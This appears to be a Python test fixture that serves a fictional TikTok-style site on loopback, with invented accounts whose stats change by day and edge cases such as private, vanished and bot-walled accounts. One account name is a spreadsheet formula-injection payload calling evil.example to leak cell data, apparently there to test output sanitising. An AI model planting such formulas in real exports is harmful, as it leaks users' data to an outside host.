"""A small TikTok-shaped site with invented people, served on loopback: for the demo, the tests and the benchmarks.

Every page is written here, none is a recording. What an account shows depends on the day, so that a month can be lived
through in seconds.
"""

import html
import json
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import date
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from zlib import crc32

FIRST_DAY = date(2026, 10, 26)
DAYS = 28


@dataclass(frozen=True)
class Person:
    """Somebody with an account.

    Attributes:
        name: The name shown on the page.
        followers: On the first day.
        growth: Followers won a day.
        likes: For each follower.
        private: Whether the account is private.
        gone_from: The day, counted from 0, from which the account is gone.
        walled: Whether the site answers with its bot wall.
        jump: The day on which a post does very well.
        zeros_on: A day on which the site shows zeros, as real ones do when they take a visitor for a robot.
    """

    name: str
    followers: int
    growth: int
    likes: int = 20
    private: bool = False
    gone_from: int = 10_000
    walled: bool = False
    jump: int = 10_000
    zeros_on: int = -1


PEOPLE: Mapping[str, Person] = {
    "bakery.lotte": Person("Bakkerij Lotte", 12_480, 35),
    "museum_of_maps": Person("Museum of Maps", 8_931, 12),
    "juf.nele": Person("Juf Nele 🍎", 48_210, 410, jump=16),
    "volley_gent": Person("Volley Gent", 2_204, -3),
    "slow_cyclist": Person("The Slow Cyclist", 151_700, 730, zeros_on=20),
    "evil.formula": Person('=IMPORTXML("https://evil.example/?"&A1;"//x")', 990, 5),
    "quiet.garden": Person("Quiet Garden", 640, 1, private=True),
    "pop.up.shop": Person("Pop-up Shop", 3_310, 20, gone_from=14),
    "behind_the_wall": Person("Behind the Wall", 77_000, 100, walled=True),
}
POST = ("bakery.lotte", "7571863205253778710")
POST_PATH = f"/@{POST[0]}/video/{POST[1]}"


def counts(handle: str, day: int) -> dict[str, int]:
    """What an account's page shows on a day, counted from 0."""
    person = PEOPLE[handle]
    wobble = crc32(f"{handle}{day}".encode()) % (abs(person.growth) + 1)
    followers = person.followers + person.growth * day + wobble + (9_000 if day >= person.jump else 0)
    if day == person.zeros_on:
        return {"followers": 0, "following": 0, "likes": 0, "posts": 0}
    likes = person.likes * followers + 7 * day
    return {"followers": followers, "following": 80 + day // 9, "likes": likes, "posts": 60 + day // 2}


def post_counts(day: int) -> dict[str, int]:
    """What the post's page shows on a day."""
    views = 9_600 + 13 * day
    return {"views": views, "likes": views // 20, "comments": views // 1_450, "shares": views // 900, "saves": day}


def page(path: str, day: int) -> tuple[int, str]:
    """HTTP status and body for a path on a day."""
    if path == POST_PATH:
        return 200, _script(_post_scope(day))
    handle = path.removeprefix("/@").lower()
    person = PEOPLE.get(handle)
    if path.startswith("/embed/"):
        return 400, "<title>Bad request</title>"
    if not path.startswith("/@") or (person and person.walled):
        return (200, _WALL) if person else (404, "<title>Not found</title>")
    if person is None or day >= person.gone_from:
        return 200, _script({"webapp.user-detail": {"statusCode": 10221, "statusMsg": "user not found"}})
    return 200, _script(_account_scope(handle, person, counts(handle, day)))


def account_page(handle: str, followers: int, *, name: str = "") -> str:
    """The page of an account that is not among the people, for whoever needs many of them."""
    shown = {"followers": followers, "following": 12, "likes": followers * 9, "posts": 30}
    return _script(_account_scope(handle, Person(name or handle, followers, 0), shown))


_WALL = """<!DOCTYPE html><html lang="en"><head><script id="slardar-config" type="application/json">
{"slardarClient": "SlardarWAF"}</script></head>
<body>Please wait...<p id="wci" class="_wafchallengeid"></p></body></html>"""


def _script(scope: dict[str, object]) -> str:
    text = json.dumps({"__DEFAULT_SCOPE__": scope}, ensure_ascii=False).replace("<", "\\u003c")
    return (
        '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>TikTok - Make Your Day</title></head><body>'
        f'<script id="__UNIVERSAL_DATA_FOR_REHYDRATION__" type="application/json">{text}</script></body></html>'
    )


def _account_scope(handle: str, person: Person, shown: Mapping[str, int]) -> dict[str, object]:
    names = {"followers": "followerCount", "following": "followingCount", "likes": "heartCount", "posts": "videoCount"}
    exact = {names[field]: str(0 if person.private and field == "posts" else value) for field, value in shown.items()}
    user = {
        "id": str(7_000_000_000_000_000_000 + crc32(handle.encode())),
        "uniqueId": handle,
        "nickname": person.name,
        "signature": f"{html.unescape(person.name)}: made up for a demonstration",
        "verified": person.followers > 100_000,  # noqa: PLR2004
        "privateAccount": person.private,
    }
    status = 10222 if person.private else 0
    info = {"user": user, "stats": {"followerCount": 0}, "statsV2": exact}
    return {"webapp.user-detail": {"userInfo": info, "statusCode": status}}


def _post_scope(day: int) -> dict[str, object]:
    shown = post_counts(day)
    names = {"views": "playCount", "likes": "diggCount", "comments": "commentCount", "shares": "shareCount"}
    stats = {names.get(field, "collectCount"): str(value) for field, value in shown.items()}
    item = {
        "id": POST[1],
        "desc": "How sourdough wakes up",
        "createTime": 1_792_972_800,
        "author": {"uniqueId": POST[0], "nickname": PEOPLE[POST[0]].name},
        "video": {"duration": 34},
        "statsV2": stats,
    }
    return {"webapp.video-detail": {"itemInfo": {"itemStruct": item}, "statusCode": 0}}


@contextmanager
def serve(answer: Callable[[str], tuple[int, str]]) -> Iterator[str]:
    """Serve pages on loopback while the context lasts.

    Args:
        answer: A path to an HTTP status and a body.

    Yields:
        The origin, such as ``http://127.0.0.1:41234``.
    """

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"
        wbufsize = -1  # head and body in one write

        def do_GET(self) -> None:
            status, text = answer(self.path.split("?")[0])
            body = text.encode()
            self.send_response(status)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002, ANN401 - silent on purpose
            pass

    class Server(ThreadingHTTPServer):
        request_queue_size = 128  # with the usual 5, a burst of visitors waits a second to be let in
        daemon_threads = True

        def handle_error(self, request: Any, client_address: Any) -> None:  # noqa: ANN401
            """Say nothing: a visitor who hangs up is no news."""

    server = Server(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()
